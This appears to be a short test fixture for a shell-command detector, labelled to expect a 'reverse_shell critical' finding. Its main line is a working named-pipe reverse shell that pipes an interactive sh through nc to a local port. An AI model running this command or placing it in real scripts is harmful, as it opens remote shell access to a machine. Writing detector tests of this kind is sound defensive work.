# about: a named pipe makes the loop between shell and nc
# expect: reverse_shell critical
# needs: python3 nc
peer 4405
mkfifo f; (cat f | sh -i 2>&1 | nc -w 3 127.0.0.1 4405 >f) || true
done_typing
